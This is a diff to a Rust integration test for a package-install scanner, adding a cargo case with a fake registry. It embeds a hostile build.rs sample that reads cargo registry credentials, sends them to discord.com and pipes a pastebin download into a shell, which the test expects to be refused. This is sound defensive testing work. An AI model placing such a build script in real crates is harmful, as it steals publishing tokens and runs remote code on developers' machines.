@@ -1,4 +1,4 @@
-//! `cordon install npm|pip` end to end, against a fake registry on
+//! `cordon install npm|pip|cargo` end to end, against a fake registry on
 //! loopback that serves one honest package and one whose code reads
 //! credentials and sends them away (harmlessly: nothing here ever runs
 //! it, and its only destination is an invalid name). The honest one
@@ -270,6 +270,103 @@ fn pip_installs_the_honest_wheel_and_refuses_the_hostile_one() {
     assert!(bad.stderr.contains("loudpost/__init__.py:"), "{bad}");
     assert!(installed(&venv, "loudpost").is_none(), "{bad}");
     assert_eq!(bad_report["install"]["refused"], true);
+}
+
+/// A build script that reads cargo's credentials, sends them to a chat
+/// service and pipes a paste into a shell.
+const HOSTILE_BUILD_RS: &str = r#"use std::io::Write;
+use std::net::TcpStream;
+use std::process::Command;
+
+fn main() {
+    let home = std::env::var("HOME").unwrap_or_default();
+    let token = std::fs::read_to_string(format!("{home}/.cargo/credentials.toml"))
+        .unwrap_or_default();
+    if let Ok(mut stream) = TcpStream::connect("discord.com:443") {
+        let _ = stream.write_all(token.as_bytes());
+    }
+    let _ = Command::new("sh")
+        .arg("-c")
+        .arg("curl -s https://pastebin.com/raw/x | sh")
+        .status();
+}
+"#;
+
+/// Publishes a crate of `files` (besides its `Cargo.toml`) in the fake
+/// sparse index and its downloads.
+fn publish_crate(registry: &FakeRegistry, name: &str, files: &[(&str, &str)]) {
+    let root = format!("{name}-1.0.0");
+    let manifest =
+        format!("[package]\nname = \"{name}\"\nversion = \"1.0.0\"\n");
+    let mut entries = vec![(format!("{root}/Cargo.toml"), manifest)];
+    for (path, text) in files {
+        entries.push((format!("{root}/{path}"), text.to_string()));
+    }
+    let entries: Vec<(&str, &str)> =
+        entries.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
+    let bytes = fake::tar_gz(&entries);
+    let line = json!({"name": name, "vers": "1.0.0", "deps": [],
+                      "features": {}, "yanked": false,
+                      "cksum": Digest::of(Algorithm::Sha256, &bytes).hex()});
+    let index = format!("/index/{}/{}/{name}", &name[..2], &name[2..4]);
+    registry.route(&index, vec![Reply::ok(format!("{line}\n"))]);
+    let file = format!("/crates/{name}/{name}-1.0.0.crate");
+    registry.route(&file, vec![Reply::ok(bytes)]);
+}
+
+/// A project in `dir` that depends on `dependency` from `registry`,
+/// which cargo reaches in place of crates.io.
+fn cargo_project(dir: &Path, registry: &FakeRegistry, dependency: &str) {
+    let manifest = format!(
+        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
+         [dependencies]\n{dependency} = \"1\"\n\n[workspace]\n"
+    );
+    let config = format!(
+        "[source.crates-io]\nreplace-with = \"fake\"\n\n\
+         [source.fake]\nregistry = \"sparse+{}/\"\n",
+        registry.url("/index")
+    );
+    std::fs::create_dir_all(dir.join("src")).unwrap();
+    std::fs::create_dir_all(dir.join(".cargo")).unwrap();
+    std::fs::write(dir.join("Cargo.toml"), manifest).unwrap();
+    std::fs::write(dir.join("src/main.rs"), "fn main() {}\n").unwrap();
+    std::fs::write(dir.join(".cargo/config.toml"), config).unwrap();
+}
+
+#[test]
+fn cargo_builds_with_the_honest_crate_and_refuses_the_hostile_one() {
+    if !can_run("cargo build", "cargo") {
+        return;
+    }
+    let registry = FakeRegistry::start();
+    let dl = registry.url("/crates/{crate}/{crate}-{version}.crate");
+    let config = json!({"dl": dl}).to_string();
+    registry.route("/index/config.json", vec![Reply::ok(config)]);
+    publish_crate(&registry, "tidyfmt", &[("src/lib.rs", "pub fn f() {}\n")]);
+    publish_crate(
+        &registry,
+        "loudpost",
+        &[("src/lib.rs", "pub fn f() {}\n"), ("build.rs", HOSTILE_BUILD_RS)],
+    );
+    let (good_dir, bad_dir) = (Scratch::new(), Scratch::new());
+    cargo_project(&good_dir.workspace, &registry, "tidyfmt");
+    cargo_project(&bad_dir.workspace, &registry, "loudpost");
+    let report = good_dir.root.join("install.json");
+
+    let good = install(&good_dir.workspace, &registry, &report, &["cargo"]);
+    let good_report = read_json(&report, &good);
+    let bad = install(&bad_dir.workspace, &registry, &report, &["cargo"]);
+
+    assert_eq!(good.code, Some(0), "{good}");
+    assert!(good_dir.workspace.join("target/debug/app").is_file(), "{good}");
+    assert_eq!(good_report["install"]["lockfile"], "Cargo.lock");
+    let scanned = &good_report["scan"]["packages"][0];
+    assert_eq!(scanned["target"], "crates:tidyfmt@1.0.0", "{good_report}");
+    assert_eq!(scanned["verdict"], "clean");
+    assert_eq!(bad.code, Some(1), "{bad}");
+    assert!(bad.stderr.contains("crates:loudpost@1.0.0: malicious"), "{bad}");
+    assert!(bad.stderr.contains("build.rs:"), "{bad}");
+    assert!(!bad_dir.workspace.join("target").exists(), "{bad}");
 }
 
 #[test]
